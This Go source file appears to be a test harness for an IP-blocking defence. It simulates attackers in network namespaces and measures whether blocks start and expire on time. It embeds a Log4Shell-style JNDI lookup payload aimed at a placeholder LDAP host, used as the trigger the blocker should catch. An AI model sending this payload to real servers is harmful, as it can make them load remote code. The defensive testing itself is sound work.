package main

import (
	"fmt"
	"io"
	"net"
	"net/netip"
	"os/exec"
	"runtime"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

const (
	target     = "10.20.0.80"
	webAt      = target + ":8080"
	probeAt    = target + ":9009"
	probeEvery = 50 * time.Millisecond
	goesOn     = 2 * time.Second // that an attacker sends after its block has ended
	exploit    = "GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: shop\r\n\r\n"
)

// crowd is the attackers, and those who count what reaches the target.
type crowd struct {
	left   string
	web    net.Listener
	probes net.PacketConn
	mu     sync.Mutex
	by     map[string]*attacker
	ended  bool
}

// attacker is one address. Guarded by the crowd's lock.
type attacker struct {
	until   time.Time // of its block; zero: none is known
	from    time.Time // when the block was in force for certain
	sent    []time.Time
	arrived []time.Time
}

// within runs f on a thread of its own in a network namespace; sockets that it opens stay there.
func within(namespace string, f func() error) error {
	done := make(chan error, 1)
	go func() {
		runtime.LockOSThread() // the thread ends with this goroutine
		fd, err := unix.Open("/run/netns/"+namespace, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			err = unix.Setns(fd, unix.CLONE_NEWNET)
			_ = unix.Close(fd)
		}
		if err == nil {
			err = f()
		}
		done <- err
	}()
	return <-done
}

// newCrowd gives both ends their addresses and opens what is attacked.
func newCrowd(left, here string) (*crowd, error) {
	for _, args := range [][]string{{here, "addr", "replace", target + "/24", "dev", "dv0"}, {left, "addr", "replace", "10.20.0.1/24", "dev", "dv1"},
		{here, "route", "replace", "198.18.0.0/15", "via", "10.20.0.1"}, {here, "link", "set", "lo", "up"}, {left, "link", "set", "lo", "up"}} {
		if out, err := exec.Command("ip", append([]string{"-n"}, args...)...).CombinedOutput(); err != nil {
			return nil, fmt.Errorf("ip %v: %w %s", args, err, out)
		}
	}
	c := &crowd{left: left, by: map[string]*attacker{}}
	err := within(here, func() (err error) {
		if c.web, err = net.Listen("tcp", webAt); err == nil {
			c.probes, err = net.ListenPacket("udp", probeAt)
		}
		return err
	})
	if err != nil {
		return nil, err
	}
	go c.serve()
	go c.count()
	return c, nil
}

// serve answers whatever comes over HTTP.
func (c *crowd) serve() {
	for {
		conn, err := c.web.Accept()
		if err != nil {
			return
		}
		go func() {
			defer conn.Close()
			_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
			b := make([]byte, 4096)
			for {
				if _, err := conn.Read(b); err != nil {
					return
				}
				_, _ = io.WriteString(conn, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
			}
		}()
	}
}

// count takes note of what arrives.
func (c *crowd) count() {
	b := make([]byte, 64)
	for {
		_, from, err := c.probes.ReadFrom(b)
		if err != nil {
			return
		}
		now, who := time.Now(), from.(*net.UDPAddr).IP.String()
		c.mu.Lock()
		if a := c.by[who]; a != nil {
			a.arrived = append(a.arrived, now)
		}
		c.mu.Unlock()
	}
}

// attack has the attacker of a round attack over a connection of its own, then send until its block has ended.
func (c *crowd) attack(round int) {
	who := netip.AddrFrom4([4]byte{198, 18, byte(round / 250), byte(1 + round%250)}).String()
	if exec.Command("ip", "-n", c.left, "addr", "replace", who+"/32", "dev", "dv1").Run() != nil {
		return
	}
	a := &attacker{}
	c.mu.Lock()
	c.by[who] = a
	c.mu.Unlock()
	var probe, web net.Conn
	err := within(c.left, func() (err error) {
		if probe, err = net.Dial("udp", probeAt); err != nil {
			return err
		}
		_ = probe.Close()
		d := net.Dialer{LocalAddr: &net.UDPAddr{IP: net.ParseIP(who)}}
		if probe, err = d.Dial("udp", probeAt); err != nil {
			return err
		}
		d = net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(who)}, Timeout: 2 * time.Second}
		web, err = d.Dial("tcp", webAt)
		return err
	})
	if err == nil {
		go c.exploit(web)
	}
	if probe == nil {
		return
	}
	defer probe.Close()
	for c.probe(a, probe) {
		time.Sleep(probeEvery)
	}
}

// exploit attacks until it gets no further.
func (c *crowd) exploit(web net.Conn) {
	defer web.Close()
	_ = web.(*net.TCPConn).SetLinger(0)
	for range 4 {
		if _, err := io.WriteString(web, exploit); err != nil {
			return
		}
		time.Sleep(30 * time.Millisecond)
	}
}

// probe sends one datagram, while there is a reason to.
func (c *crowd) probe(a *attacker, to net.Conn) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.ended || !a.until.IsZero() && time.Now().After(a.until.Add(goesOn)) {
		return false
	}
	a.sent = append(a.sent, time.Now())
	_, _ = to.Write([]byte("probe"))
	return true
}

// know takes note of who is blocked, and that they are from a time on.
func (c *crowd) know(stand map[string]time.Time, from time.Time) {
	c.mu.Lock()
	defer c.mu.Unlock()
	for who, until := range stand {
		if a := c.by[who]; a != nil && a.until.IsZero() {
			a.until, a.from = until, from
		}
	}
}

// compare says how many blocks that should stand do not, or end at another time; those that are new are taken note of.
func (c *crowd) compare(stand map[string]time.Time) (missing int) {
	now := time.Now()
	c.mu.Lock()
	for who, a := range c.by {
		until, there := stand[who]
		if a.until.After(now.Add(time.Second)) && (!there || until.Sub(a.until).Abs() > 10*time.Millisecond) {
			missing++
		}
	}
	c.mu.Unlock()
	c.know(stand, now.Add(margin))
	return missing
}

// lastEnd is when the last known block ends.
func (c *crowd) lastEnd() (last time.Time) {
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, a := range c.by {
		if a.until.After(last) {
			last = a.until
		}
	}
	return last
}

func (c *crowd) end() {
	c.mu.Lock()
	c.ended = true
	c.mu.Unlock()
	_, _ = c.web.Close(), c.probes.Close()
}

// tell says what passed.
func (c *crowd) tell(missing int) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	var blocked, ended, silent, tried, passed int
	var late time.Duration
	now := time.Now()
	for _, a := range c.by {
		if a.until.IsZero() {
			continue
		}
		blocked++
		for _, t := range a.sent {
			if t.After(a.from) && t.Before(a.until) {
				tried++
			}
		}
		first := time.Time{}
		for _, t := range a.arrived {
			if t.After(a.from) && t.Before(a.until) {
				passed++
			}
			if first.IsZero() && !t.Before(a.until) {
				first = t
			}
		}
		switch {
		case a.until.Add(lateMost).After(now):
		case first.IsZero():
			silent++
		default:
			ended++
			late = max(late, first.Sub(a.until))
		}
	}
	fmt.Printf("       blocks: %d of %d attackers blocked; of %d packets that they sent meanwhile %d passed; %d blocks ended, the latest packet after %d ms (allowed %d), %d never; %d not as before after a restart\n",
		blocked, len(c.by), tried, passed, ended, late.Milliseconds(), lateMost.Milliseconds(), silent, missing)
	return passed+silent+missing == 0 && late <= lateMost && ended > 0 && blocked*2 >= len(c.by)
}
